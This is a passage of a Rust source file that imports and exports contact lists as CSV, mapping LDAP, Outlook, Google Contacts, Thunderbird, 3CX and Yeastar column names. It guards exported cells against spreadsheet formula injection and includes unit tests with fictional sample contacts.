//! Contacts as CSV: a header row naming the columns, one contact per row.
//!
//! Column names are LDAP attribute names (`cn`, `sn`, `givenName`, `telephoneNumber`,
//! ...) or the names address books export, case-insensitive: Outlook ("First Name",
//! "Business Phone 2", "E-mail Address", "Job Title"), Google Contacts ("Given
//! Name", "Phone 1 - Type" + "Phone 1 - Value", "Organization 1 - Name"), 3CX
//! ("FirstName", "Mobile2", "Business", "BusinessFax") and Yeastar ("Business
//! Number", "Mobile Number 2"). The separator (`,` `;` `|` or tab) is taken from the
//! header line; quoted cells may hold separators and line ends. A cell may hold
//! several numbers separated by ` ::: ` (as Google exports them) or by line ends.
//! Export writes LDAP attribute names, one column per number kind, several
//! numbers of a kind joined by ` ::: `; reading reads that back.
//!
//! A cell a spreadsheet would run as a formula (one starting with `=`, `+`, `-`,
//! `@`, a tab or a carriage return) is exported behind a `'`, which spreadsheets
//! show as text and hide; reading drops that `'` again. Phone numbers as people
//! write them (`+49 30 1234567`) stay as they are: without a letter, a spreadsheet
//! can call no function and reach no other cell.

use super::fields::{Builder, Field, field_of, key_of, kind_of_label};
use super::headers;
use super::mapping::Mapping;
use super::{Entries, NotAList, Position, ReadList};
use crate::contacts::{Contact, Detail, PhoneKind};
use std::borrow::Cow;
use std::io::Write;

/// How several values of one kind are written in one cell.
pub const MULTI_SEPARATOR: &str = " ::: ";

/// What makes a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` is exported behind a `'`: it starts with a formula character,
/// or with `'`s before one (so that reading, which drops one `'` there, gives it
/// back as it was).
fn needs_guard(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// Whether every number of a number cell is written as people write phone numbers:
/// an optional `+`, then a digit or `(`, then only digits, spaces and `-` `(` `)`
/// `.` `/`.
fn is_plain_number(cell: &str) -> bool {
    cell.split(MULTI_SEPARATOR).all(|number| {
        let rest = number.strip_prefix('+').unwrap_or(number);
        rest.starts_with(|c: char| c.is_ascii_digit() || c == '(')
            && rest
                .chars()
                .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '-' | '(' | ')' | '.' | '/'))
    })
}

/// A cell as exported: behind a `'` when a spreadsheet would run it, unless it is
/// a plain phone number in a number column.
fn guarded(cell: &str, number_column: bool) -> Cow<'_, str> {
    if needs_guard(cell) && !(number_column && is_plain_number(cell)) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as read: the `'` an export put before a formula character is dropped.
fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

/// Where a column goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Column {
    Field(Field),
    /// Google's "Phone N - Value": its kind is in "Phone N - Type".
    TypedNumber(u16),
    /// Google's "Phone N - Type" (or "- Label").
    NumberType(u16),
}

/// What a column holds by its name alone: a mapping's word first, then Google's
/// typed numbers, the localized names of address book exports, and the LDAP and
/// everyday names `fields` knows.
fn column_of(header: &str, mapping: &Mapping) -> Option<Column> {
    if let Some(target) = mapping.target(header) {
        return target.map(Column::Field);
    }
    let key = key_of(header);
    if let Some(column) = google_phone(&key) {
        return Some(column);
    }
    headers::lookup(header)
        .map(|(field, _)| field)
        .or_else(|| field_of(header))
        .map(Column::Field)
}

/// What each column of a header row holds. Names that mean two things are
/// resolved by the row: a name of [`headers::UNLESS`] beside its other name is
/// left out, and when several columns give the job title, Outlook's honorific
/// ("Title" beside "Job Title"; the first of French Outlook's two "Titre") is.
fn columns_of(names: &[String], mapping: &Mapping) -> Vec<Option<Column>> {
    let mut columns: Vec<Option<Column>> = names.iter().map(|n| column_of(n, mapping)).collect();
    let has = |name: &str| {
        let key = headers::key(name);
        names.iter().any(|n| headers::key(n) == key)
    };
    let mapped = |n: &str| mapping.target(n).is_some();
    for (name, column) in names.iter().zip(columns.iter_mut()) {
        if mapped(name) {
            continue;
        }
        let key = headers::key(name);
        if headers::UNLESS
            .iter()
            .any(|(a, b)| headers::key(a) == key && has(b))
        {
            *column = None;
        }
    }
    let titles: Vec<usize> = (0..names.len())
        .filter(|i| columns[*i] == Some(Column::Field(Field::Title)) && !mapped(&names[*i]))
        .collect();
    if titles.len() > 1 {
        let honorific: Vec<usize> = titles
            .iter()
            .copied()
            .filter(|i| key_of(&names[*i]) == "title")
            .collect();
        let mut rest: Vec<usize> = titles
            .into_iter()
            .filter(|i| !honorific.contains(i))
            .collect();
        if rest.is_empty() {
            rest = honorific.clone();
        } else {
            for i in honorific {
                columns[i] = None;
            }
        }
        // Same-named job title columns: the last one is the job title.
        for (n, i) in rest.iter().enumerate() {
            let key = headers::key(&names[*i]);
            if rest[n + 1..]
                .iter()
                .any(|j| headers::key(&names[*j]) == key)
            {
                columns[*i] = None;
            }
        }
    }
    columns
}

/// Google's "Phone 1 - Value" / "Phone 1 - Type" / "Phone 1 - Label" columns.
fn google_phone(key: &str) -> Option<Column> {
    let rest = key.strip_prefix("phone")?;
    let digits = rest.chars().take_while(char::is_ascii_digit).count();
    let n: u16 = rest.get(..digits)?.parse().ok()?;
    match &rest[digits..] {
        "value" => Some(Column::TypedNumber(n)),
        "type" | "label" => Some(Column::NumberType(n)),
        _ => None,
    }
}

/// The dialect a header row is from, when it says.
fn variant_of(keys: &[String]) -> Option<&'static str> {
    let has = |k: &str| keys.iter().any(|h| h == k);
    if has("phone1value") || has("givenname") && has("familyname") {
        Some("Google Contacts")
    } else if has("emailaddress") && (has("businessphone") || has("jobtitle")) {
        Some("Outlook")
    } else if has("businessnumber") || has("mobilenumber") {
        Some("Yeastar")
    } else if has("firstname") && (has("mobile2") || has("business2") || has("businessfax")) {
        Some("3CX")
    } else {
        None
    }
}

/// The dialect most of the header's names are from, when it knows two names that
/// are not everyday or LDAP names (an LDAP header is no Thunderbird export).
fn dialect_of(names: &[String]) -> Option<&'static str> {
    let own = names.iter().filter(|n| field_of(n).is_none());
    headers::dialect_votes(own.map(String::as_str))
        .into_iter()
        .rev()
        .max_by_key(|(_, n)| *n)
        .filter(|(_, n)| *n >= 2)
        .map(|(d, _)| d)
}

/// Whether `line` reads as a CSV header naming at least one contact field.
pub fn looks_like_header(line: &str) -> bool {
    let sep = separator(line) as char;
    line.split(sep).any(|h| {
        let h = h.trim().trim_matches('"');
        field_of(h).is_some() || headers::lookup(h).is_some()
    })
}

fn separator(header_line: &str) -> u8 {
    let count = |c: char| header_line.matches(c).count();
    [
        (b',', count(',')),
        (b';', count(';')),
        (b'\t', count('\t')),
        (b'|', count('|')),
    ]
    .into_iter()
    .max_by_key(|(_, n)| *n)
    .filter(|(_, n)| *n > 0)
    .map(|(d, _)| d)
    .unwrap_or(b',')
}

/// Reads a CSV document of contacts; bad rows are skipped and listed, the rest read.
pub fn read(text: &str) -> Result<ReadList, NotAList> {
    read_mapped(text, &Mapping::default())
}

/// Reads a CSV document whose columns `mapping` maps, the others by their names.
pub fn read_mapped(text: &str, mapping: &Mapping) -> Result<ReadList, NotAList> {
    let text = text.trim_start_matches('\u{feff}');
    if text.trim().is_empty() {
        return Err(NotAList::Empty);
    }
    let first_line = text.lines().next().unwrap_or_default();
    let separator = separator(first_line);
    let mut reader = reader(separator, text.as_bytes());
    let mut header = ::csv::ByteRecord::new();
    match reader.read_byte_record(&mut header) {
        Ok(true) => {}
        Ok(false) => return Err(NotAList::Empty),
        Err(e) => {
            return Err(NotAList::Broken {
                format: super::Format::Csv,
                reason: format!("the header row: {e}"),
            });
        }
    }
    let body = reader.position().byte() as usize;
    let names: Vec<String> = header
        .iter()
        .map(|h| String::from_utf8_lossy(h).trim().to_string())
        .collect();
    let keys: Vec<String> = names.iter().map(|n| key_of(n)).collect();
    let fields = columns_of(&names, mapping);
    if fields.iter().all(Option::is_none) {
        return Err(NotAList::Broken {
            format: super::Format::Csv,
            reason: format!(
                "no column is a contact field; found: {}. Accepted: LDAP attribute names (cn, sn, givenName, displayName, telephoneNumber, mobile, homePhone, ipPhone, otherTelephone, facsimileTelephoneNumber, pager, mail, o, ou, title, uid, description, street, l, postalCode, st, c, jpegPhoto), the columns of Outlook and Thunderbird exports in English, German, French, Spanish, Italian, Dutch and Portuguese, and of Google Contacts, 3CX and Yeastar exports; map any other column with --map 'Column=field' ([ucm.mapping] for sop ucm import)",
                names.join(", ")
            ),
        });
    }
    let mut out = Entries::new();
    if let Some(v) = variant_of(&keys).or_else(|| dialect_of(&names)) {
        out.set_variant(v);
    }
    let missing = mapping.missing(&names);
    if !missing.is_empty() {
        out.warn(format!(
            "the column mapping names columns the file does not have: {}",
            missing.join(", ")
        ));
    }
    let unknown: Vec<&str> = names
        .iter()
        .zip(&fields)
        // Columns the mapping leaves out are not listed: the admin chose.
        .filter(|(n, f)| f.is_none() && !n.is_empty() && mapping.target(n).is_none())
        .map(|(n, _)| n.as_str())
        .collect();
    if !unknown.is_empty() {
        let shown = unknown
            .iter()
            .take(8)
            .copied()
            .collect::<Vec<_>>()
            .join(", ");
        let more = unknown.len().saturating_sub(8);
        out.warn(if more > 0 {
            format!("ignored columns: {shown} and {more} more")
        } else {
            format!("ignored columns: {shown}")
        });
    }
    // Line numbers are counted from byte offsets: the csv crate's own count
    // drifts after CRLF line ends.
    let newlines = super::newlines(text);
    let parts = split_rows(text, body);
    // Room for every row from the start, counted by lines (a cell spanning lines
    // only leaves room unused): a million contacts are then never moved to grow
    // the list, and the first part's list has room for the others' too.
    let lines_before = |at: usize| newlines.partition_point(|n| *n < at);
    let rows = |(i, range): (usize, &std::ops::Range<usize>)| {
        let room = match i {
            0 => newlines.len() + 1,
            _ => lines_before(range.end) - lines_before(range.start) + 1,
        };
        read_rows(text, range.clone(), separator, &fields, &newlines, room)
    };
    let read: Vec<Rows> = if parts.len() == 1 {
        parts.iter().enumerate().map(rows).collect()
    } else {
        std::thread::scope(|scope| {
            let handles: Vec<_> = parts
                .iter()
                .enumerate()
                .map(|part| scope.spawn(move || rows(part)))
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().unwrap_or_else(|p| std::panic::resume_unwind(p)))
                .collect()
        })
    };
    let mut entries = 0;
    let mut last_short = false;
    for part in read {
        out.append(part.entries, entries);
        entries += part.count;
        last_short = part.last_short;
    }
    // A short last row is a file cut short when it has no line end, or when a
    // quote opened in it is never closed.
    let unclosed_quote = text.bytes().filter(|b| *b == b'"').count() % 2 == 1;
    if last_short && (!text.ends_with('\n') || unclosed_quote) {
        return Err(NotAList::Truncated {
            format: super::Format::Csv,
            reason: if unclosed_quote {
                "the last row opens a quote that is never closed".to_string()
            } else {
                "the last row is short and has no line end".to_string()
            },
        });
    }
    Ok(out.finish())
}

fn reader(separator: u8, bytes: &[u8]) -> ::csv::Reader<&[u8]> {
    ::csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
}

/// The rows of one part of a document.
struct Rows {
    entries: Entries,
    /// Rows read, skipped ones included.
    count: usize,
    /// The last row has fewer cells than the header.
    last_short: bool,
}

/// Reads the rows in `range` of `text` (which starts at a row).
fn read_rows(
    text: &str,
    range: std::ops::Range<usize>,
    separator: u8,
    fields: &[Option<Column>],
    newlines: &[usize],
    room: usize,
) -> Rows {
    let start = range.start as u64;
    let mut out = Entries::with_capacity(room);
    let mut entry = 0;
    let mut last_short = false;
    let mut record = ::csv::ByteRecord::new();
    let mut reader = reader(separator, &text.as_bytes()[range]);
    loop {
        let line_at = |byte: u64| line_of(text, newlines, start + byte);
        match reader.read_byte_record(&mut record) {
            Ok(false) => break,
            Ok(true) => {}
            Err(e) => {
                entry += 1;
                let line = e.position().map_or(0, |p| line_at(p.byte()));
                out.skip(Position { entry, line }, format!("unreadable row: {e}"));
                continue;
            }
        }
        last_short = record.len() < fields.len();
        if record
            .iter()
            .all(|cell| cell.iter().all(u8::is_ascii_whitespace))
        {
            continue;
        }
        entry += 1;
        let line = record.position().map_or(0, |p| line_at(p.byte()));
        out.entry(Position { entry, line }, row(&record, fields));
    }
    Rows {
        entries: out,
        count: entry,
        last_short,
    }
}

/// Below this size a document is read on one core.
const SPLIT_ABOVE: usize = 4 << 20;

/// Cuts the rows of `text` from `body` on into one part per core, each starting
/// at a row: at a line end outside quotes (an even count of `"` before it).
fn split_rows(text: &str, body: usize) -> Vec<std::ops::Range<usize>> {
    let bytes = text.as_bytes();
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
    let quotes =
        |range: std::ops::Range<usize>| bytes[range].iter().filter(|b| **b == b'"').count();
    if threads < 2 || bytes.len() - body < SPLIT_ABOVE {
        return std::iter::once(body..bytes.len()).collect();
    }
    let mut cuts = vec![body];
    let (mut at, mut open) = (body, 0usize);
    for k in 1..threads {
        let target = body + (bytes.len() - body) * k / threads;
        if target <= at {
            continue;
        }
        open += quotes(at..target);
        at = target;
        while let Some(nl) = bytes[at..].iter().position(|b| *b == b'\n') {
            open += quotes(at..at + nl);
            at += nl + 1;
            if open % 2 == 0 {
                cuts.push(at);
                break;
            }
        }
    }
    cuts.push(bytes.len());
    cuts.dedup();
    cuts.windows(2).map(|w| w[0]..w[1]).collect()
}

/// The physical line (from 1) a record starting at `offset` is on. After a CRLF the
/// reported start can be the `\n` itself: line ends before the record are skipped.
fn line_of(text: &str, newlines: &[usize], offset: u64) -> u64 {
    let mut offset = offset as usize;
    while matches!(text.as_bytes().get(offset), Some(b'\r' | b'\n')) {
        offset += 1;
    }
    super::line_at(newlines, offset)
}

fn row(record: &::csv::ByteRecord, columns: &[Option<Column>]) -> Result<Contact, String> {
    if record.len() > columns.len() {
        return Err(format!(
            "{} fields where the header has {}",
            record.len(),
            columns.len()
        ));
    }
    let mut b = Builder::default();
    let mut labels: Vec<(u16, &str)> = Vec::new();
    let mut typed: Vec<(u16, &str)> = Vec::new();
    for (cell, column) in record.iter().zip(columns) {
        let Some(column) = column else { continue };
        // The document is text already: a cell is valid UTF-8.
        let value = unguarded(std::str::from_utf8(cell).unwrap_or_default());
        match column {
            Column::Field(field) => b.set(*field, value),
            Column::TypedNumber(n) => typed.push((*n, value)),
            Column::NumberType(n) => labels.push((*n, value)),
        }
    }
    for (n, value) in typed {
        let label = labels.iter().find(|(m, _)| *m == n).map_or("", |(_, l)| l);
        b.add_numbers(kind_of_label(label), value);
    }
    Ok(b.finish())
}

/// Writes contacts as CSV with LDAP attribute names; `import` reads it back. A
/// cell a spreadsheet would run as a formula is written behind a `'` (see the
/// module's documentation).
pub fn export_csv(contacts: &[Contact], out: &mut impl Write) -> std::io::Result<()> {
    export_csv_rows(contacts.iter().map(|c| (c.id.as_str(), c)), out)
}

/// Like `export_csv`, with each contact's `uid` cell given beside it (the uid a
/// generation serves it under, say).
pub fn export_csv_rows<'a>(
    rows: impl IntoIterator<Item = (&'a str, &'a Contact)>,
    out: &mut impl Write,
) -> std::io::Result<()> {
    let mut w = csv::Writer::from_writer(out);
    let mut header = vec![
        "uid",
        "cn",
        "givenName",
        "sn",
        "displayName",
        "o",
        "ou",
        "title",
        "mail",
    ];
    let kinds = [
        ("telephoneNumber", PhoneKind::Work),
        ("mobile", PhoneKind::Mobile),
        ("homePhone", PhoneKind::Home),
        ("ipPhone", PhoneKind::IpPhone),
        ("otherTelephone", PhoneKind::Other),
        ("facsimileTelephoneNumber", PhoneKind::Fax),
        ("pager", PhoneKind::Pager),
    ];
    header.extend(kinds.iter().map(|(name, _)| *name));
    // The details last (the photo is not written: a cell is no place for it).
    header.extend(Detail::ALL.iter().map(|d| d.name()));
    w.write_record(&header)?;
    for (uid, c) in rows {
        let mut fields = c.text_fields();
        fields[0] = uid;
        let mut record: Vec<String> = fields
            .map(|cell| guarded(cell, false).into_owned())
            .to_vec();
        // The common names the source gave (none: derived from the others).
        let cn = c.given_common_names().join(MULTI_SEPARATOR);
        record.insert(1, guarded(&cn, false).into_owned());
        record.extend(kinds.iter().map(|(_, kind)| {
            let cell = c.numbers(*kind).collect::<Vec<_>>().join(MULTI_SEPARATOR);
            guarded(&cell, true).into_owned()
        }));
        record.extend(
            Detail::ALL
                .iter()
                .map(|d| guarded(c.detail(*d), false).into_owned()),
        );
        w.write_record(&record)?;
    }
    w.flush()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::panic)]
mod tests {
    use super::*;

    fn lines(list: &ReadList) -> Vec<(u64, &str)> {
        list.skipped
            .iter()
            .map(|s| (s.position.line, s.reason.as_str()))
            .collect()
    }

    #[test]
    fn ldap_headers_bom_and_aliases() {
        let csv = "\u{feff}First Name;Last Name;Company;Business Phone;Mobile Phone;E-mail\n\
                   Jürgen;Müller;Nordwind;030 123;0170 1 ::: 0171 2;j@example.com\n";
        let out = read(csv).unwrap();
        assert!(out.skipped.is_empty(), "{:?}", out.skipped);
        let c = &out.contacts[0];
        assert_eq!(
            (c.given_name.as_str(), c.surname.as_str()),
            ("Jürgen", "Müller")
        );
        assert_eq!(c.company, "Nordwind");
        assert_eq!(
            c.numbers(PhoneKind::Mobile).collect::<Vec<_>>(),
            vec!["0170 1", "0171 2"]
        );
        assert_eq!(c.email, "j@example.com");
    }

    #[test]
    fn bad_rows_are_skipped_with_their_line() {
        let csv = "cn,telephoneNumber,o\n\
                   Good One,123,A\n\
                   \"Multi\nLine\",456,B\n\
                   Too,Many,Fields,Here\n\
                   ,,Only Company\n\
                   ,,\n\
                   No Digits,abc,C\n\
                   Last Good,789,D\n";
        let out = read(csv).unwrap();
        let names: Vec<String> = out.contacts.iter().map(Contact::common_name).collect();
        assert_eq!(
            names,
            vec!["Good One", "Multi\nLine", "Only Company", "Last Good"]
        );
        let skipped = lines(&out);
        assert_eq!(skipped.len(), 2, "{skipped:?}");
        assert_eq!(skipped[0].0, 5);
        assert!(skipped[0].1.contains("4 fields where the header has 3"));
        assert_eq!(skipped[1].0, 8);
        assert!(skipped[1].1.contains("no digit"));
        assert_eq!(out.skipped[1].position.entry, 5);
    }

    #[test]
    fn line_numbers_hold_with_crlf_line_ends() {
        let csv =
            "cn,telephoneNumber\r\nGood,1\r\nBad,1,2\r\n\"Multi\r\nLine\",3\r\nNoDigit,abc\r\n";
        let out = read(csv).unwrap();
        let lines: Vec<u64> = out.skipped.iter().map(|s| s.position.line).collect();
        assert_eq!(lines, vec![3, 6]);
        assert_eq!(out.contacts.len(), 2);
    }

    #[test]
    fn a_file_without_known_columns_is_refused() {
        let err = read("foo,bar\n1,2\n").unwrap_err();
        assert!(err.to_string().contains("found: foo, bar"), "{err}");
        assert_eq!(read("").unwrap_err(), NotAList::Empty);
    }

    #[test]
    fn a_truncated_file_is_refused() {
        let err = read("cn,telephoneNumber,mail\nAda,1,a@x\n\"Bob,2").unwrap_err();
        assert!(matches!(err, NotAList::Truncated { .. }), "{err}");
        // A last row without a line end but complete is fine.
        assert_eq!(read("cn,telephoneNumber\nAda,1").unwrap().contacts.len(), 1);
    }

    #[test]
    fn address_book_exports() {
        let outlook = "First Name,Middle Name,Last Name,Title,Company,Department,Job Title,Business Phone,Business Phone 2,Home Phone,Mobile Phone,Business Fax,E-mail Address,E-mail 2 Address\n\
                       Ada,,Lovelace,Dr.,Analytical,R&D,Engineer,+44 20 1,+44 20 2,,+44 77 3,+44 20 9,ada@x.org,ada@y.org\n";
        let out = read(outlook).unwrap();
        assert_eq!(out.variant, Some("Outlook"));
        let c = &out.contacts[0];
        assert_eq!(c.title, "Engineer");
        assert_eq!(c.department, "R&D");
        assert_eq!(c.email, "ada@x.org");
        assert_eq!(c.numbers(PhoneKind::Work).count(), 2);
        assert_eq!(c.numbers(PhoneKind::Fax).collect::<Vec<_>>(), ["+44 20 9"]);

        let google = "Name,Given Name,Family Name,Organization 1 - Name,Organization 1 - Title,E-mail 1 - Type,E-mail 1 - Value,Phone 1 - Type,Phone 1 - Value,Phone 2 - Type,Phone 2 - Value\n\
                      Grace Hopper,Grace,Hopper,Navy,Admiral,* Work,grace@navy.mil,Mobile,+1 555 1 ::: +1 555 2,Work Fax,+1 555 9\n";
        let out = read(google).unwrap();
        assert_eq!(out.variant, Some("Google Contacts"));
        let c = &out.contacts[0];
        assert_eq!(c.cn, ["Grace Hopper"]);
        assert_eq!(c.company, "Navy");
        assert_eq!(
            c.numbers(PhoneKind::Mobile).collect::<Vec<_>>(),
            ["+1 555 1", "+1 555 2"]
        );
        assert_eq!(c.numbers(PhoneKind::Fax).collect::<Vec<_>>(), ["+1 555 9"]);

        let three_cx = "FirstName,LastName,Company,Mobile,Mobile2,Home,Home2,Business,Business2,Email,Other,BusinessFax,HomeFax,Pager\n\
                        Linus,T,Kernel,+1 1,+1 2,,,+1 3,,l@k.org,,+1 9,,\n";
        let out = read(three_cx).unwrap();
        assert_eq!(out.variant, Some("3CX"));
        assert_eq!(out.contacts[0].numbers(PhoneKind::Mobile).count(), 2);

        let yeastar = "First Name|Last Name|Company|Email|Business Number|Business Number 2|Mobile Number|Home Number|Business Fax|Other Number|Remark\n\
                       Ken|Thompson|Bell|ken@bell|+1 908 1|+1 908 2|+1 908 3||+1 908 9||unix\n";
        let out = read(yeastar).unwrap();
        assert_eq!(out.variant, Some("Yeastar"));
        let c = &out.contacts[0];
        assert_eq!(c.numbers(PhoneKind::Work).count(), 2);
        assert_eq!(c.numbers(PhoneKind::Mobile).count(), 1);
        assert!(out.warnings[0].contains("Remark"));
    }

    #[test]
    fn a_large_file_read_on_every_core_reads_as_on_one() {
        let mut text = String::from("cn,telephoneNumber,title\n");
        let rows = 2 * SPLIT_ABOVE / 40;
        for i in 0..rows {
            match i % 1000 {
                // A quoted cell over three lines, with a separator and quotes in it.
                7 => text.push_str(&format!("\"Multi \"\"{i}\"\"\nline,\nname\",+1 {i},x\n")),
                500 => text.push_str(&format!("Bad {i},no digits,x\n")),
                _ => text.push_str(&format!("Person number {i:08},+1 555 {i:08},t\n")),
            }
        }
        assert!(text.len() > SPLIT_ABOVE);
        assert!(
            split_rows(&text, 0).len() > 1
                || std::thread::available_parallelism().map_or(1, |n| n.get()) < 2
        );
        let list = read(&text).unwrap();
        let bad = rows / 1000 + usize::from(rows % 1000 > 500);
        assert_eq!(list.contacts.len(), rows - bad);
        assert_eq!(list.skipped_count, bad);
        // Row 501 is entry 501, on line 502 + 2 lines for the multi-line cell before it.
        assert_eq!(
            list.skipped[0].position,
            Position {
                entry: 501,
                line: 504
            }
        );
        let last = list.skipped.last().unwrap().position;
        assert_eq!(last.entry, (bad - 1) * 1000 + 501);
        assert_eq!(last.line, last.entry as u64 + 1 + 2 * (bad as u64));
        let multi = list
            .contacts
            .iter()
            .filter(|c| c.common_name().starts_with("Multi"))
            .count();
        assert_eq!(multi, rows / 1000 + usize::from(rows % 1000 > 7));
        assert_eq!(list.contacts[7].common_name(), "Multi \"7\"\nline,\nname");
    }

    #[test]
    fn ids_that_differ_only_in_case_keep_the_first_entry() {
        let list =
            read("uid,cn,telephoneNumber\nd1,First,1\nd2,Second,2\nd1,Third,3\nD1,Fourth,4\n")
                .unwrap();
        let names: Vec<String> = list.contacts.iter().map(|c| c.common_name()).collect();
        assert_eq!(names, ["First", "Second"]);
        assert_eq!(list.skipped_count, 2);
        assert_eq!(list.skipped[0].position, Position { entry: 3, line: 4 });
        assert!(
            list.skipped[1].reason.contains("\"D1\"")
                && list.skipped[1].reason.contains("entry 1 (line 2)"),
            "{:?}",
            list.skipped[1]
        );

        // The same across the parts of a large file read on every core.
        let mut text = String::from("uid,cn,telephoneNumber\n");
        let rows = 2 * SPLIT_ABOVE / 30;
        for i in 0..rows {
            text.push_str(&format!("id{i:08},Person {i:08},+1 555 {i}\n"));
        }
        text.push_str("ID00000003,Late copy,+1 555 3\nlast,Last one,+1 555 9\n");
        let list = read(&text).unwrap();
        assert_eq!(
            list.contacts.len(),
            rows + 1,
            "the copy skipped, the last kept"
        );
        assert_eq!(list.skipped_count, 1);
        assert_eq!(list.skipped[0].position.entry, rows + 1);
        assert!(
            list.skipped[0].reason.contains("entry 4 "),
            "{:?}",
            list.skipped[0]
        );
        assert_eq!(list.contacts.last().unwrap().common_name(), "Last one");
    }

    fn sample(name: &str) -> ReadList {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("assets/formats")
            .join(name);
        let list = crate::formats::read(name, None, &std::fs::read(path).unwrap()).unwrap();
        assert!(list.skipped.is_empty(), "{name}: {:?}", list.skipped);
        list
    }

    fn numbers(c: &Contact, kind: PhoneKind) -> Vec<&str> {
        c.numbers(kind).collect()
    }

    #[test]
    fn a_german_outlook_export_imports_every_number_and_email() {
        let list = sample("outlook-de.csv");
        assert_eq!(list.variant, Some("Outlook, German"));
        assert!(
            list.warnings[0].contains("Windows-1252"),
            "{:?}",
            list.warnings
        );
        let names: Vec<String> = list.contacts.iter().map(Contact::common_name).collect();
        assert_eq!(names, ["Jürgen Müller", "Renate Weiß", "Özlem Schäfer"]);
        let j = &list.contacts[0];
        assert_eq!(
            (j.company.as_str(), j.department.as_str(), j.title.as_str()),
            ("Nordwind GmbH", "Vertrieb", "Leiter Vertrieb")
        );
        assert_eq!(j.email, "j.mueller@nordwind.example");
        assert_eq!(
            numbers(j, PhoneKind::Work),
            [
                "+49 30 901820",
                "+49 30 901821",
                "+49 30 901800",
                "+49 30 901820-1"
            ]
        );
        assert_eq!(
            numbers(j, PhoneKind::Home),
            ["+49 30 4455667", "+49 30 4455668"]
        );
        assert_eq!(
            numbers(j, PhoneKind::Mobile),
            ["+49 170 1234567", "+49 172 7654321"]
        );
        assert_eq!(
            numbers(j, PhoneKind::Other),
            ["+49 171 5550101", "+49 30 901820-50", "+49 30 901820-7"]
        );
        assert_eq!(
            numbers(j, PhoneKind::Fax),
            ["+49 30 901820-9", "+49 30 4455669", "+49 30 901820-8"]
        );
        assert_eq!(numbers(j, PhoneKind::Pager), ["+49 160 5550199"]);
        // The assistant's, callback, TTY and telex numbers are not the contact's.
        assert_eq!(j.phones.len(), 15);
        let r = &list.contacts[1];
        assert_eq!(r.title, "Inhaberin");
        assert_eq!(r.email, "renate@baeckerei-weiss.example");
        assert_eq!(r.phones.len(), 3);
        // Only a second address: it is the one imported.
        let o = &list.contacts[2];
        assert_eq!(o.email, "oezlem@privat.example");
        assert_eq!(numbers(o, PhoneKind::Pager), ["+49 160 5550200"]);
        assert_eq!(numbers(o, PhoneKind::Other), ["+49 40 7654300"]);
    }

    #[test]
    fn a_french_outlook_export_tells_its_two_titre_apart() {
        let list = sample("outlook-fr.csv");
        assert_eq!(list.variant, Some("Outlook, French"));
        let a = &list.contacts[0];
        // The first "Titre" is the honorific, the second the job title;
        // "Profession" is a field of its own beside them.
        assert_eq!(a.title, "Directrice générale");
        assert_eq!(
            (a.given_name.as_str(), a.surname.as_str()),
            ("Amélie", "Laurent")
        );
        assert_eq!(a.department, "Direction");
        assert_eq!(a.email, "amelie.laurent@lumiere.example");
        assert_eq!(
            numbers(a, PhoneKind::Work),
            [
                "+33 1 42 68 53 00",
                "+33 1 42 68 53 01",
                "+33 1 42 68 50 00"
            ]
        );
        assert_eq!(numbers(a, PhoneKind::Home), ["+33 1 45 00 00 01"]);
        assert_eq!(numbers(a, PhoneKind::Mobile), ["+33 6 12 34 56 78"]);
        assert_eq!(numbers(a, PhoneKind::Other), ["+33 1 45 00 00 02"]);
        assert_eq!(numbers(a, PhoneKind::Fax), ["+33 1 42 68 53 09"]);
        assert_eq!(numbers(a, PhoneKind::Pager), ["+33 6 99 00 00 01"]);
        let f = &list.contacts[1];
        assert_eq!(f.title, "Gérant");
        assert_eq!(numbers(f, PhoneKind::Fax), ["+33 4 78 00 11 29"]);
        assert_eq!(numbers(f, PhoneKind::Other), ["+33 6 70 00 11 23"]);
        let c = &list.contacts[2];
        assert_eq!(c.email, "chloe@asso.example");
        assert_eq!(c.phones.len(), 3);
    }

    #[test]
    fn a_german_thunderbird_export_imports() {
        let list = sample("thunderbird-de.csv");
        assert_eq!(list.variant, Some("Thunderbird, German"));
        let i = &list.contacts[0];
        assert_eq!(i.display_name, "Ingrid Svensson");
        assert_eq!(i.title, "Projektleiterin");
        assert_eq!(i.company, "Fjord AB");
        assert_eq!(i.email, "ingrid@fjord.example");
        for (kind, number) in [
            (PhoneKind::Work, "+46 8 123 456"),
            (PhoneKind::Home, "+46 8 654 321"),
            (PhoneKind::Fax, "+46 8 123 459"),
            (PhoneKind::Pager, "+46 70 000 11 22"),
            (PhoneKind::Mobile, "+46 70 234 56 78"),
        ] {
            assert_eq!(numbers(i, kind), [number], "{kind:?}");
        }
        assert_eq!(list.contacts[2].common_name(), "Empfang Hamburg");
    }

    /// One row per language: (header row, what each column is expected to give).
    #[test]
    fn outlook_and_thunderbird_headers_in_every_language() {
        let cases: [(&str, &str, &[&str]); 12] = [
            (
                "Outlook, Spanish",
                "Title,Nombre,Apellidos,Organización,Department,Puesto,Teléfono del trabajo,Business Phone 2,Particular,Mobile Phone,Otro teléfono,Business Fax,Pager,E-mail Address",
                &[
                    "", "given", "sn", "o", "ou", "title", "work", "work", "home", "mobile",
                    "other", "fax", "pager", "mail",
                ],
            ),
            (
                "Outlook, Italian",
                "Titolo,Nome,Cognome,Società,Reparto,Posizione,Ufficio,Ufficio 2,Abitazione,Cellulare,Altro telefono,Fax (uff.),Cercapersone,Indirizzo posta elettronica",
                &[
                    "", "given", "sn", "o", "ou", "title", "work", "work", "home", "mobile",
                    "other", "fax", "pager", "mail",
                ],
            ),
            (
                "Outlook, Dutch",
                "Titel,Voornaam,Achternaam,Bedrijf,Afdeling,Functie,Telefoon op werk,Telefoon op werk 2,Telefoon thuis,Mobiele telefoon,Andere telefoon,Fax op werk,Pager,E-mailadres",
                &[
                    "", "given", "sn", "o", "ou", "title", "work", "work", "home", "mobile",
